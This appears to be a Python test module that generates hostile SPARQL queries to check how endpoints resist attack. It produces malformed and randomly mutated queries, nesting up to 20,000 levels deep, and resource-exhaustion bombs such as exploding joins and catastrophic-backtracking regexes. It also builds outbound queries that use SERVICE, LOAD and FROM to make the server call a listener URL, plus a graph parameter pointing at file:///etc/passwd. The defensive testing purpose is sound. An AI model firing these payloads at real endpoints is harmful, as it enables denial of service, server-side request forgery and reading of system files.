"""Queries that are broken, random, nested too deeply, costly, or that call other hosts."""

from random import Random
from urllib.parse import urlencode

from conformance.attack import Attack, sent

JUNK = [
    "\x00",
    "\ufeff",
    "\u202e",
    "\U0010ffff",
    "é",
    "昆明",
    "\\u007b",
    "\\U0000007D",
    "''",
    '"""',
    "#",
    "<",
    "{{",
    ")",
]
CALLS = ["STR", "LANG", "UCASE", "STRLEN", "MD5", "SHA512", "ABS", "YEAR", "IRI", "BNODE", "DATATYPE", "ENCODE_FOR_URI"]
OPERATORS = ["+", "-", "*", "/", "=", "!=", "<", ">", "<=", ">=", "&&", "||"]
SEEDS = [
    "SELECT * { ?s ?p ?o } LIMIT 5",
    "SELECT ?s (COUNT(*) AS ?n) { ?s rdfs:label ?l OPTIONAL { ?s yc:value ?v } } GROUP BY ?s HAVING (?n > 1)",
    "ASK { ?s yc:locatedIn+/rdfs:label 'x'@en FILTER NOT EXISTS { ?s a yc:Place } }",
    "CONSTRUCT { ?s ?p [ rdfs:label ?l ] } WHERE { GRAPH ?g { ?s ?p ?l } MINUS { ?s a ?l } }",
    "DESCRIBE ?s FROM <urn:a> { VALUES (?s ?x) { (place:kunming UNDEF) (<urn:b> 'y') } }",
    "SELECT (GROUP_CONCAT(DISTINCT ?o; separator='|') AS ?all) { { ?s ?p ?o } UNION { BIND(1/0 AS ?o) } }",
]
BOMBS = [
    "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n0 ?o . ?q ?r ?s }",
    "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n ?o } ORDER BY ?c ?f ?i",
    "SELECT (GROUP_CONCAT(?c) AS ?x) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n ?o }",
    "SELECT * { ?a (!<urn:x>|^!<urn:x>)* ?b . ?c (!<urn:x>|^!<urn:x>)* ?d . ?e (!<urn:x>|^!<urn:x>)* ?f }",
    "SELECT DISTINCT ?a ?d ?g { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l FILTER(RAND() < 2) }",
]  # fmt: skip


def mutated(lot: Random, kind: str, _: str) -> Attack:
    text = list(lot.choice(SEEDS))
    for _ in range(lot.randint(1, 6)):
        place = lot.randrange(len(text))
        change = lot.randrange(5)
        if change == 0:
            del text[place : place + lot.randint(1, 9)]
        elif change == 1:
            text.insert(place, lot.choice(JUNK))
        elif change == 2:
            text[place:place] = text[: lot.randrange(len(text))]
        elif change == 3:
            text[place] = chr(lot.randrange(0x20, 0x3000))
        else:
            text = text[:place] or text
        text = text or ["x"]
    return sent(lot, kind, "".join(text))


def _expression(lot: Random, depth: int) -> str:
    if depth == 0 or lot.random() < 0.2:
        return lot.choice(["?a", "?b", "?o", "1", "-2.5e3", "'昆'@zh", "true", "xsd:date", "NOW()", "RAND()", "UUID()"])
    one, two = _expression(lot, depth - 1), _expression(lot, depth - 1)
    return lot.choice(
        [
            f"({one} {lot.choice(OPERATORS)} {two})",
            f"{lot.choice(CALLS)}({one})",
            f"IF({one}, {two}, {one})",
            f"COALESCE({one}, {two})",
            f"CONCAT(STR({one}), STR({two}))",
            f"REPLACE(STR({one}), '(.)', '$1$1')",
            f"({one} IN ({two}, {one}))",
            f"SUBSTR(STR({one}), {two})",
            f"xsd:integer({one})",
        ]
    )


def _pattern(lot: Random, depth: int) -> str:
    if depth == 0:
        path = lot.choice(
            ["?p", "rdfs:label", "yc:locatedIn*", "^yc:value", "(yc:a|!yc:b)?", "rdf:type/rdfs:subClassOf*"]
        )
        return f"{lot.choice(['?a', '?b', '[]', 'place:kunming'])} {path} {lot.choice(['?o', '?b', '1', '_:x'])} . "
    inner, other = _pattern(lot, depth - 1), _pattern(lot, depth - 1)
    return lot.choice(
        [
            f"{{ {inner} }} UNION {{ {other} }} ",
            f"{inner} OPTIONAL {{ {other} }} ",
            f"{inner} FILTER({_expression(lot, 3)}) ",
            f"{inner} BIND({_expression(lot, 3)} AS ?v{lot.randrange(9)}) ",
            f"GRAPH ?g {{ {inner} }} ",
            f"{inner} MINUS {{ {other} }} ",
            f"{{ SELECT ?a {{ {inner} }} LIMIT 3 }} ",
            f"{inner} FILTER NOT EXISTS {{ {other} }} ",
            f"VALUES ?b {{ 1 UNDEF 'x' }} {inner}",
        ]
    )


def grown(lot: Random, kind: str, _: str) -> Attack:
    form = lot.choice(["SELECT *", "SELECT DISTINCT ?a", "ASK", "DESCRIBE ?a", "SELECT (MAX(?o) AS ?m)"])
    return sent(lot, kind, f"{form} {{ {_pattern(lot, lot.randint(1, 4))} }}")


def nested(lot: Random, kind: str, _: str) -> Attack:
    depth = lot.choice([30, 61, 100, 400, 3000, 20000])
    opening, closing, core = lot.choice(
        [
            ("{", "}", "?s ?p ?o"), ("(", ")", "1"), ("[ ?p ", "]", "?o"), ("!", "", "true"), ("-", "", "1"),
            ("{ SELECT * ", "}", "{}"), ("NOT EXISTS {", "}", ""), ("(^", ")", "rdf:type"), ("IF(1,1,", ")", "1"),
        ]
    )  # fmt: skip
    many = opening * depth + core + (closing * depth if lot.random() < 0.8 else "")
    return sent(lot, kind, lot.choice(["SELECT * {{ {} }}", "ASK {{ FILTER({}) }}", "ASK {{ ?s {} ?o }}"]).format(many))


def bomb(lot: Random, kind: str, _: str) -> Attack:
    doubled = " ".join(f"BIND(CONCAT(?x{n}, ?x{n}) AS ?x{n + 1})" for n in range(40))
    evil = "(a+)+" * lot.randint(1, 4)
    bombs = [
        *BOMBS,
        f"SELECT (STRLEN(?x40) AS ?n) {{ BIND('aaaaaaaaaaaaaaaa' AS ?x0) {doubled} }}",
        f"ASK {{ ?s ?p ?o . ?t ?q ?u FILTER(REGEX(CONCAT(STR(?o), '{'a' * 2000}!'), '^{evil}$')) }}",
        f"SELECT (REPLACE('{'a' * 5000}', '', '{'b' * 3000}') AS ?x) {{}}",
        f"ASK {{ FILTER(REGEX('a', '{'(' * 50}a{'{1000}){1000}' * 3}')) }}",
        f"SELECT * {{ VALUES ?x {{ {'1 ' * 30000} }} VALUES ?y {{ {'2 ' * 30000} }} }}",
        f"ASK {{ FILTER(1 IN ({', '.join(['2'] * 20000)})) }}",
        f"ASK {{ {' UNION '.join(['{ ?s ?p ?o }'] * 2000)} }}",
    ]
    return sent(lot, kind, lot.choice(bombs))


def outbound(lot: Random, kind: str, listener: str) -> Attack:
    escaped = "".join(f"\\u{ord(character):04x}" for character in listener)
    queries = [
        f"SELECT * {{ SERVICE <{listener}> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SERVICE SILENT <{listener}> {{ ?s ?p ?o }} }}",
        f"SELECT * {{ BIND(<{listener}> AS ?x) sErViCe#\n ?x {{ ?s ?p ?o }} }}",
        f"SELECT * {{ VALUES ?x {{ <{listener}> }} SERVICE ?x {{ ?s ?p ?o }} }}",
        f"SELECT * {{ SERVICE <{escaped}> {{ ?s ?p ?o }} }}",
        f"BASE <{listener}> SELECT * {{ SERVICE SILENT <a> {{ ?s ?p ?o }} }}",
        f"PREFIX x: <{listener}> SELECT * {{ FILTER(1 <2) service x:y {{ ?s ?p ?o }} #>\n }}",
        f"SELECT * FROM <{listener}> FROM NAMED <{listener}n> {{ ?s ?p ?o GRAPH ?g {{ ?a ?b ?c }} }}",  # noqa: S608  (SPARQL, and hostile on purpose)
        f"ASK {{ FILTER(EXISTS {{ SERVICE SILENT <{listener}> {{ }} }}) }}",
        f"DESCRIBE <{listener}>",
        f"LOAD <{listener}> INTO GRAPH <urn:a>",
        f"LOAD SILENT <{listener}>; SELECT * {{ ?s ?p ?o }}",
        f"INSERT DATA {{ <urn:a> <urn:b> <{listener}> }}",
        f"SELECT (<{listener}>(1) AS ?x) {{}}",
    ]
    attack = sent(lot, kind, lot.choice(queries))
    if lot.random() < 0.3:
        graphs = urlencode([("default-graph-uri", listener), ("named-graph-uri", "file:///etc/passwd")])
        attack.path += f"{'&' if '?' in attack.path else '?'}{graphs}"
    return attack
